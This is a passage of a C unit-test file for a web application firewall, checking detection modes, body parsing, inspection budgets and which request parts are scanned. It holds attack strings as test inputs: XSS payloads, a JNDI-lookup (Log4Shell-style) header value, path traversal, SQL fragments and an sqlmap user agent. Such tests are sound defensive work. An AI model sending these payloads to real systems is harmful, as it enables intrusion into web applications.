	} rows[] = { { WAF_BODY_JSON, "{\"a\":[\"b\"", 1005 }, { WAF_BODY_JSON, "{\"a\":\"b", 1005 }, { WAF_BODY_MULTIPART, PART("a") "x", 1004 } };
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		struct waf_result r;
		waf_result_init(&r, 1);
		waf_inspect_body(&r, rows[i].type, STR("B"), str_of(rows[i].body), false);
		assert_int_equal(r.score, 0);
		waf_inspect_body(&r, rows[i].type, STR("B"), str_of(rows[i].body), true);
		assert_true(rule_matched(&r, rows[i].fact_rule));
	}
}

static void inspect_repeated(struct waf_result *r, const char *unit, size_t bytes)
{
	char *body = malloc(bytes);
	size_t n = strlen(unit);
	for (size_t i = 0; i < bytes; i++)
		body[i] = unit[i % n];
	waf_result_init(r, 1);
	waf_inspect(r, WAF_BODY_ARG, STR_NONE, (struct str){ body, bytes }, WAF_AS_IS);
	free(body);
}

/* Values full of beginnings that never become a match: the budget ends them. Prose does not need it. */
static void hostile_values_cost_no_more(void **state)
{
	(void)state;
	static const char *const hostile[] = { "{{ a ", "select a from ", "<svg <iframe src " };
	struct waf_result r;
	for (size_t i = 0; i < ARRAY_LEN(hostile); i++) {
		inspect_repeated(&r, hostile[i], WAF_BODY_BYTES_MAX);
		assert_true(r.spent_ns < 4ull * WAF_BUDGET_NS);
		/* how far a fast machine gets with it is not said */
		assert_int_equal(rule_matched(&r, 1016), r.spent_ns > WAF_BUDGET_NS || r.undecided);
		assert_int_equal(r.done, rule_matched(&r, 1016));
	}
	inspect_repeated(&r, "[]+", 8192); /* more of it hides nothing, PCRE2's limits notwithstanding */
	assert_true(rule_matched(&r, 8009));
	inspect_repeated(&r, "../", 8192);
	assert_true(rule_matched(&r, 3001));
	inspect_repeated(&r, "It was the best of times, or the worst; and we select from the list. ", 32768);
	assert_int_equal(r.score, 0);
}

/* A long value is looked at in pieces: nothing hides where they meet. */
static void nothing_hides_in_long_values(void **state)
{
	(void)state;
	static const char attack[] = "<img src=x onerror=alert(1)>";
	char *body = malloc(3 * WAF_PIECE_BYTES);
	for (size_t at = WAF_PIECE_BYTES - 100; at < WAF_PIECE_BYTES + WAF_OVERLAP_BYTES + 100; at++) {
		struct waf_result r;
		memset(body, '<', 3 * WAF_PIECE_BYTES); /* no tag, but what the rule begins with */
		memcpy(body + at, attack, sizeof(attack) - 1);
		waf_result_init(&r, 1);
		waf_inspect(&r, WAF_BODY_ARG, STR_NONE, (struct str){ body, 3 * WAF_PIECE_BYTES }, WAF_AS_IS);
		assert_true(rule_matched(&r, 8002));
	}
	free(body);
}

static void too_many_arguments(void **state)
{
	(void)state;
	struct buf query;
	struct fake f;
	buf_init(&query, 1 << 20);
	for (int i = 0; i < WAF_ARGS_MAX; i++)
		buf_puts(&query, "a&");
	setup(&f, "GET", "https://a.test/", WAF_BLOCK);
	f.x.req.query = buf_str(&query);
	assert_int_equal(fake_request(&f, &filter_waf), FILTER_NEXT);
	fake_done(&f);
	buf_puts(&query, "a");
	setup(&f, "GET", "https://a.test/", WAF_BLOCK);
	f.x.req.query = buf_str(&query);
	assert_int_equal(fake_request(&f, &filter_waf), FILTER_ANSWERED);
	fake_done(&f);
	buf_done(&query);
}

/* ---- the filter ---- */

static void stop(struct timer *t)
{
	loop_stop(t->ctx);
}

static void modes(void **state)
{
	(void)state;
	struct fake f;
	struct err e;
	struct loop *l = loop_new(&e);
	struct waf_counts before = *waf_counts();
	setup(&f, "GET", "https://a.test/?q=%3Cscript%3E", WAF_OFF);
	assert_int_equal(fake_request(&f, &filter_waf), FILTER_NEXT);
	assert_int_equal(f.n_filters, 0);
	fake_done(&f);
	setup(&f, "GET", "https://a.test/?q=%3Cscript%3E", WAF_DETECT);
	f.worker.loop = f.shared.main_loop = l;
	assert_int_equal(fake_request(&f, &filter_waf), FILTER_NEXT);
	assert_int_equal(f.answers, 0);
	assert_true(waf_counts()->detected == before.detected + 1 && waf_counts()->refused == before.refused);
	/* In this mode bodies are never held back. */
	struct str data = STR("a=");
	f.x.req.has_body = true;
	assert_int_equal(fake_request_body(&f, &filter_waf, &data, false), FILTER_NEXT);
	assert_int_equal(data.len, 2);
	fake_done(&f);
	setup(&f, "GET", "https://a.test/?q=%3Cscript%3E", WAF_BLOCK);
	f.worker.loop = f.shared.main_loop = l;
	assert_int_equal(fake_request(&f, &filter_waf), FILTER_ANSWERED);
	assert_int_equal(f.status, 403);
	assert_int_equal(f.answers, 1);
	assert_true(waf_counts()->refused == before.refused + 1);
	fake_done(&f);
	/* The reports are written by the main thread. */
	struct timer t = { .fire = stop, .ctx = l };
	timer_start(l, &t, 10);
	loop_run(l);
	loop_free(l);
}

static void where_it_looks(void **state)
{
	(void)state;
	static const struct {
		const char *method, *url, *header, *value;
		unsigned paranoia;
		bool refused;
	} rows[] = {
		{ "GET", "https://a.test/x?a=1&b=2", "Accept", "*/*", 1, false },
		{ "GET", "https://a.test/%3Cscript%3E", "Accept", "*/*", 1, true },
		{ "GET", "https://a.test/?%3Cscript%3E=1", "Accept", "*/*", 1, true },
		{ "GET", "https://a.test/", "Cookie", "a=b; c=<script>", 1, true },
		{ "GET", "https://a.test/", "Referer", "https://x/<script>", 1, true },
		{ "GET", "https://a.test/", "X-Any", "${jndi:ldap://x}", 1, true },
		{ "TRACE", "https://a.test/", "Accept", "*/*", 1, true },
		{ "GET", "https://a.test/", "User-Agent", "sqlmap", 1, true },
		{ "GET", "https://10.0.0.1/", "Range", "bytes=0-1,1-2,2-3,3-4,4-5,5-6,6-7", 2, true }, /* 3 + 3 */
		{ "GET", "https://10.0.0.1/", "Range", "bytes=0-1,1-2,2-3,3-4,4-5,5-6,6-7", 1, false },
		{ "GET", "https://10.0.0.1/", "Range", "bytes=0-1", 2, false }, /* 3 */
	};
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		struct fake f;
		setup(&f, rows[i].method, rows[i].url, WAF_BLOCK);
		f.set.waf_paranoia = rows[i].paranoia;
		fake_header(&f, rows[i].header, rows[i].value);
		print_message("row %zu\n", i);
		assert_int_equal(fake_request(&f, &filter_waf), rows[i].refused ? FILTER_ANSWERED : FILTER_NEXT);
		fake_done(&f);
	}
	/* Exceptions. */
	unsigned excluded[] = { 8001, 1 };
	struct fake g;
	setup(&g, "GET", "https://a.test/?q=%3Cscript%3E", WAF_BLOCK);
	g.set.waf_exclude = excluded;
	g.set.n_waf_exclude = 2;
	assert_int_equal(fake_request(&g, &filter_waf), FILTER_NEXT);
	fake_done(&g);
	/* Which of two types the application believes is not known; asking for an upgrade hides no body. */
	struct fake f;
	setup(&f, "POST", "https://a.test/", WAF_BLOCK);
	fake_header(&f, "Content-Type", "image/png");
	fake_header(&f, "content-type", "application/json");
	assert_int_equal(fake_request(&f, &filter_waf), FILTER_ANSWERED);
	fake_done(&f);
	setup(&f, "POST", "https://a.test/", WAF_BLOCK);
	fake_header(&f, "Content-Type", "application/json");
	f.x.req.upgrade = STR("anything");
	f.x.req.has_body = true;
	struct str data = STR("[\"<script>alert(1)</script>\"]");
	assert_int_equal(fake_request(&f, &filter_waf), FILTER_NEXT);
	assert_int_equal(fake_request_body(&f, &filter_waf, &data, true), FILTER_ANSWERED);
	fake_done(&f);
	/* A WebSocket over HTTP/2 comes as CONNECT. */
	setup(&f, "CONNECT", "https://a.test/", WAF_BLOCK);
	f.x.req.upgrade = STR("websocket");
	assert_int_equal(fake_request(&f, &filter_waf), FILTER_NEXT);
	fake_done(&f);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(every_rule_has_an_attack),
		cmocka_unit_test(each_rule_finds_its_attacks),
		cmocka_unit_test(harmless_values_pass),
		cmocka_unit_test(higher_levels_are_stricter),
		cmocka_unit_test(texts),
		cmocka_unit_test(bodies_are_taken_apart),
		cmocka_unit_test(long_bodies_pass_behind_the_limit),
		cmocka_unit_test(half_bodies),
		cmocka_unit_test(hostile_values_cost_no_more),
		cmocka_unit_test(nothing_hides_in_long_values),
		cmocka_unit_test(too_many_arguments),
		cmocka_unit_test(modes),
		cmocka_unit_test(where_it_looks),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
